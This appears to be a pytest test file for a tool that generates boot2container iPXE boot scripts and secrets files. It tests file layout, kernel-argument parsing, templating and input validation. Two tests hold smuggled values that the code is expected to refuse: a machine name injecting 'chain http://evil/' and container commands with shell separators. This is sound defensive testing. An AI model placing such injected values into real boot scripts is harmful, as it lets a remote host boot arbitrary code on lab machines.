"""Server-side boot2container files: layout, kernel arguments as b2c parses them, valve-infra templating."""

from __future__ import annotations

import stat
import string
from pathlib import Path

import pytest

from boot2ipxe.errors import InputError
from boot2ipxe.formats.ipxe_script import lint_script, logical_lines
from boot2ipxe.pki import certs
from boot2ipxe.server import b2c

FP = "0123456789abcdef0123456789abcdef01234567"
SERVER = {
    "secrets_url": "https://gw.lab/secrets/one-time-token",
    "client_cert_fingerprint": FP,
    "s3_endpoint": "https://s3.example.com",
    "s3_access_key_id": "KEYID",
    "s3_access_key": "SECRETKEY",
    "s3_bucket_name": "bucket",
}


def config(**overrides: object) -> b2c.BootConfig:
    values: dict[str, object] = {
        "kernel": "/files/linux-x86_64",
        "initrd": "https://gw.lab/files/initramfs.linux_amd64.cpio.xz",
        "run": ("-ti docker://registry.example.com/ci/runner:latest",),
        "console": ("ttyS0,115200",),
    }
    values.update(overrides)
    return b2c.BootConfig(**values)  # type: ignore[arg-type]


def served(text: str) -> str:
    """What valve-infra's ipxe-boot-server sends: the file rendered as a string.Template."""
    return string.Template(text).substitute(SERVER)


def kernel_params(boot_script: str) -> list[str]:
    (line,) = [joined for _, joined in logical_lines(served(boot_script)) if joined.startswith("kernel ")]
    return b2c.parse_b2c_cmdline(line)


def test_layout_and_modes(tmp_path: Path) -> None:
    files = b2c.write_server_files(tmp_path, FP.upper(), config(), name="rpi-01")
    assert files.boot_script == tmp_path / "files" / FP / "boot.ipxe"
    assert files.secrets == tmp_path / "files" / FP / "secrets"
    assert not files.secrets_kept
    assert stat.S_IMODE(files.secrets.stat().st_mode) == 0o600
    assert stat.S_IMODE(files.boot_script.stat().st_mode) & 0o044  # the server reads it
    assert sorted(p.name for p in (tmp_path / "files" / FP).iterdir()) == ["boot.ipxe", "secrets"]


def test_boot_script_kernel_args_as_b2c_sees_them(tmp_path: Path) -> None:
    text, warnings = b2c.render_boot_script(config(cmdline_extra=("b2c.swap=8G  loglevel=6",)), FP, "rpi-01")
    assert warnings == []
    lines = [line for _, line in logical_lines(served(text)) if line and not line.startswith("#")]
    assert lines[0].startswith("kernel /files/linux-x86_64 initrd=b2c ")
    assert lines[1:] == ["initrd --name b2c https://gw.lab/files/initramfs.linux_amd64.cpio.xz", "boot"]
    params = kernel_params(text)
    assert b2c.split_b2c_values(params, "b2c.run") == ["-ti docker://registry.example.com/ci/runner:latest"]
    assert b2c.split_b2c_values(params, "b2c.cache_device") == ["auto"]
    assert b2c.split_b2c_values(params, "b2c.ntp_peer") == ["auto"]
    assert b2c.split_b2c_values(params, "b2c.extra_args_url") == [SERVER["secrets_url"]]
    assert b2c.split_b2c_values(params, "console") == ["ttyS0,115200"]
    assert "b2c.swap=8G" in params and "loglevel=6" in params
    assert not b2c.split_b2c_values(params, "b2c.container")
    assert lint_script(served(text), "u-boot") == []  # the served script must not wait either


def test_legacy_container_and_several_runs() -> None:
    cfg = config(run=("docker://a", "-v /x:/x docker://b"), legacy_container=True, console=())
    params = kernel_params(b2c.render_boot_script(cfg, FP)[0])
    assert b2c.split_b2c_values(params, "b2c.container") == ["docker://a", "-v /x:/x docker://b"]
    assert not b2c.split_b2c_values(params, "b2c.run")
    assert not b2c.split_b2c_values(params, "console")


def test_dollars_in_values_survive_the_server_template() -> None:
    cfg = config(run=("docker://alpine sh -c 'echo $HOME ${PATH}'",), cmdline_extra=("x=$1",))
    text = b2c.render_boot_script(cfg, FP)[0]
    params = kernel_params(text)
    assert b2c.split_b2c_values(params, "b2c.run") == ["docker://alpine sh -c 'echo $HOME ${PATH}'"]
    assert "x=$1" in params


def test_options_cache_device_ntp_peer_and_extra_args_url() -> None:
    cfg = config(cache_device="/dev/mmcblk0p2", ntp_peer="10.0.0.1", extra_args_url="https://other/args?t=$x")
    params = kernel_params(b2c.render_boot_script(cfg, FP)[0])
    assert b2c.split_b2c_values(params, "b2c.cache_device") == ["/dev/mmcblk0p2"]
    assert b2c.split_b2c_values(params, "b2c.ntp_peer") == ["10.0.0.1"]
    assert b2c.split_b2c_values(params, "b2c.extra_args_url") == ["https://other/args?t=$x"]
    none = kernel_params(b2c.render_boot_script(config(extra_args_url=None), FP)[0])
    assert not b2c.split_b2c_values(none, "b2c.extra_args_url")


def test_secrets_template_uses_server_variables_and_b2c_ignores_its_comments(tmp_path: Path) -> None:
    minio = 'b2c.minio="scratch,${s3_endpoint},${s3_access_key_id},${s3_access_key}"'
    files = b2c.write_server_files(tmp_path, FP, config(secrets=(minio,)), name="rpi-01")
    assert files.secrets is not None
    params = b2c.parse_b2c_cmdline(served(files.secrets.read_text()))
    b2c_params = [p for p in params if p.startswith(("b2c.", "ip="))]
    assert b2c_params == ["b2c.minio=scratch,https://s3.example.com,KEYID,SECRETKEY"]


def test_existing_files(tmp_path: Path) -> None:
    first = b2c.write_server_files(tmp_path, FP, config())
    assert first.secrets is not None
    first.secrets.write_text('b2c.minio="real,credentials"\n')
    with pytest.raises(InputError, match="already exists; pass --force"):
        b2c.write_server_files(tmp_path, FP, config(run=("docker://new",)))
    again = b2c.write_server_files(tmp_path, FP, config(run=("docker://new",)), force=True)
    assert again.secrets_kept
    assert first.secrets.read_text() == 'b2c.minio="real,credentials"\n'  # never overwritten
    assert "docker://new" in again.boot_script.read_text()


def test_no_extra_args_means_no_secrets_file(tmp_path: Path) -> None:
    files = b2c.write_server_files(tmp_path, FP, config(extra_args_url=None))
    assert files.secrets is None and not (tmp_path / "files" / FP / "secrets").exists()


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"run": ()}, "give the container"),
        ({"run": ('docker://a "b"',)}, "without double quotes"),
        ({"run": ("  ",)}, "non-empty"),
        ({"kernel": "/files/my kernel"}, "--kernel"),
        ({"initrd": 'a"b'}, "--initrd"),
        ({"console": ("ttyS0 x",)}, "--console"),
        ({"cache_device": "auto x"}, "--cache-device"),
        ({"cmdline_extra": ('a="b',)}, "balanced double quotes"),
        ({"secrets": ("b2c.x=${unknown}",)}, "unknown server variable"),
        ({"secrets": ("price=$",)}, "not a valid server template"),
        ({"run": ("docker://a sh -c 'true || false'",)}, "command separator or comment, even in quotes"),
        ({"run": ("docker://a sh -c 'x ; sleep 9'",)}, "command separator"),
        ({"cmdline_extra": ("#comment",)}, "comment"),
    ],
)
def test_bad_values_are_refused(overrides: dict[str, object], message: str) -> None:
    with pytest.raises(InputError, match=message):
        cfg = config(**overrides)
        b2c.render_boot_script(cfg, FP)
        b2c.render_secrets(cfg, FP)


def test_machine_name_is_checked() -> None:
    with pytest.raises(InputError, match="not a machine name"):
        b2c.render_boot_script(config(), FP, "x\nchain http://evil/")


@pytest.mark.parametrize("text", ["xyz", FP[:-1], FP + "0", "g" * 40])
def test_bad_fingerprints_are_refused(text: str) -> None:
    with pytest.raises(InputError, match="fingerprint"):
        b2c.normalise_fingerprint(text)


def test_fingerprint_forms() -> None:
    colons = ":".join(FP[i : i + 2] for i in range(0, 40, 2)).upper()
    assert b2c.normalise_fingerprint(colons) == FP
    assert b2c.normalise_fingerprint(f"SHA1 Fingerprint={colons}".replace(" ", "")) == FP


def test_long_command_lines_warn() -> None:
    _, warnings = b2c.render_boot_script(config(cmdline_extra=("x" * 2000,)), FP)
    assert warnings and "secrets" in warnings[0]


def test_fingerprint_from_an_issued_machine(tmp_path: Path) -> None:
    certs.init_ca(tmp_path / "pki")
    (identity,) = certs.issue_machines(tmp_path / "pki", ["m1"])
    files = b2c.write_server_files(tmp_path / "srv", identity.fingerprint_sha1, config(), name="m1")
    assert files.boot_script.parent.name == identity.fingerprint_sha1
    assert "for m1 (client certificate fingerprint" in files.boot_script.read_text()


def test_plain_mode_for_servers_that_do_not_render(tmp_path: Path) -> None:
    cfg = config(templated=False, extra_args_url=None, run=("docker://alpine sh -c 'echo $HOME'",))
    files = b2c.write_server_files(tmp_path, FP, cfg)
    text = files.boot_script.read_text()
    assert files.secrets is None and "$$" not in text and "served as it is" in text
    (line,) = [joined for _, joined in logical_lines(text) if joined.startswith("kernel ")]  # no rendering
    assert b2c.split_b2c_values(b2c.parse_b2c_cmdline(line), "b2c.run") == ["docker://alpine sh -c 'echo $HOME'"]
    with pytest.raises(InputError, match="plain server"):
        b2c.render_boot_script(config(templated=False), FP)  # ${secrets_url} means nothing there
    with pytest.raises(InputError, match="plain server"):
        b2c.render_boot_script(config(templated=False, extra_args_url=None, secrets=("b2c.x=1",)), FP)
